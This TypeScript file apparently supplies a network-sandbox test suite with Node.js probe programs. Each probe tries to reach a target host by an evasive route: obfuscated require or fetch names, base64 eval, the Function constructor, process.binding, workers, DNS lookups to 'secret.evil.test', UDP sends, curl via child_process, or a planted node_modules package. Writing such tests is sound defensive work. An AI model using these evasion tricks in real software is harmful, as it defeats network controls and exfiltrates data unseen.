import { base64, filePrograms, type SinkProgram, type Target } from "./sink-program.ts";

const fetches = ({ url }: Target) => `fetch('${url}').catch(() => {})`;
const connects = ({ address, port }: Target) => `connect(${port}, '${address}')`;
const quiet = "process.on('uncaughtException', () => process.exit(1));\n";

/** JavaScript, F04. Which of it goes by a proxy depends on the age of the Node inside, so it counts as direct. */
export const javascriptPrograms: SinkProgram[] = filePrograms("node", "cjs", [
  [
    "F04 import of a name in pieces",
    "direct",
    ({ url }) => `const x = ['ht', 'tp'].join(''); import(x).then((m) => m.get('${url}'));`,
  ],
  ["F04 require of a name in pieces", "direct", ({ url }) => `require('ht' + 'tp').get('${url}')`],
  [
    "F04 require under another name",
    "direct",
    (t) => `const r = require; r(Buffer.from('6e6574', 'hex').toString()).${connects(t)}`,
  ],
  [
    "F04 process.binding",
    "direct",
    ({ address, port }) =>
      `const { TCP, TCPConnectWrap, constants } = process.binding('tcp_wrap');\nconst c = new TCP(constants.SOCKET); const r = new TCPConnectWrap();\nr.oncomplete = () => process.exit(); c.connect(r, '${address}', ${port});`,
  ],
  [
    "F04 fetch by its name in pieces",
    "direct",
    ({ url }) => `globalThis['fe' + 'tch']('${url}').catch(() => {})`,
  ],
  [
    "F04 fetch under another name",
    "direct",
    ({ url }) => `const f = fetch; f('${url}').catch(() => {})`,
  ],
  [
    "F04 fetch by Reflect",
    "direct",
    ({ url }) => `Reflect.get(globalThis, 'fetch')('${url}').catch(() => {})`,
  ],
  [
    "F04 fetch found by its length",
    "direct",
    ({ url }) =>
      `const k = Object.getOwnPropertyNames(globalThis).find((n) => n.length === 5 && n[0] === 'f'); globalThis[k]('${url}').catch(() => {})`,
  ],
  [
    "F04 WebSocket",
    "direct",
    ({ address, port }) =>
      `const W = globalThis.WebSocket;\nif (W) new W('ws://${address}:${port}/x').onerror = () => {};\nelse require('http').get({ host: '${address}', port: ${port}, headers: { upgrade: 'websocket', connection: 'upgrade' } });`,
  ],
  [
    "F04 dns",
    "direct",
    ({ address, port }) =>
      `const r = new (require('dns').Resolver)({ timeout: 300, tries: 1 }); r.setServers(['${address}:${port}']); r.resolve4('secret.evil.test', () => {});`,
  ],
  ["F04 net", "direct", (t) => `require('node:net').${connects(t)}`],
  ["F04 tls", "direct", (t) => `require('node:tls').${connects(t)}`],
  [
    "F04 http2",
    "direct",
    ({ url }) => `require('node:http2').connect('${url}').request({ ':path': '/x' })`,
  ],
  [
    "F04 a datagram",
    "direct",
    ({ address, port }) =>
      `const s = require('dgram').createSocket('udp4'); s.send('secret', ${port}, '${address}', () => s.close())`,
  ],
  ["F04 IPv6", "direct", ({ port }) => `require('net').connect(${port}, '::1')`, { at: "ipv6" }],
  [
    "F04 by name",
    "direct",
    ({ port }) => `require('net').connect({ port: ${port}, host: 'localhost', family: 4 })`,
    { at: "localhost" },
  ],
  [
    "F04 a worker out of a data URL",
    "direct",
    (t) =>
      `const { Worker } = require('worker_threads'); new Worker(new URL('data:text/javascript;base64,${base64(fetches(t))}'))`,
  ],
  [
    "F04 a worker out of code",
    "direct",
    (t) =>
      `const { Worker } = require('worker_threads'); new Worker("require('net').${connects(t)}", { eval: true })`,
  ],
  [
    "F04 the loader of modules",
    "direct",
    (t) => `require('module')._load('n' + 'et').${connects(t)}`,
  ],
  [
    "F04 require made by hand",
    "direct",
    (t) => `require('module').createRequire(__filename)('net').${connects(t)}`,
  ],
  [
    "F04 require of the main module",
    "direct",
    (t) => `process.mainModule.require('net').${connects(t)}`,
  ],
  ["F04 eval of base64", "direct", (t) => `eval(atob('${base64(fetches(t))}'))`],
  ["F04 eval after a comma", "direct", (t) => `(0, eval)("${fetches(t)}")`],
  [
    "F04 the constructor of a list's method",
    "direct",
    (t) => `[]['filter']['constructor']("${fetches(t)}")()`,
  ],
  [
    "F04 vm",
    "direct",
    (t) => `global.f = fetch; require('vm').runInThisContext("f${fetches(t).slice(5)}")`,
  ],
  [
    "F04 a program named in pieces",
    "proxied",
    ({ url }) => `require('child_process').spawn('cu' + 'rl', ['-s', '-m', '5', '${url}'])`,
  ],
  [
    "F04 a shell command",
    "proxied",
    ({ url }) => `require('node:child_process').exec('cu' + 'rl -s -m 5 ${url}')`,
  ],
  [
    "F07 a package of node_modules",
    "direct",
    () => "",
    {
      files: (t) => ({
        "main.cjs": "require('innocent')()",
        "node_modules/innocent/index.js": `module.exports = () => require('net').${connects(t)}`,
      }),
    },
  ],
]).map((program) => ({
  ...program,
  files: (target) => {
    const { "main.cjs": main, ...rest } = program.files(target);
    return { ...rest, "main.cjs": `${quiet}${main}` };
  },
}));
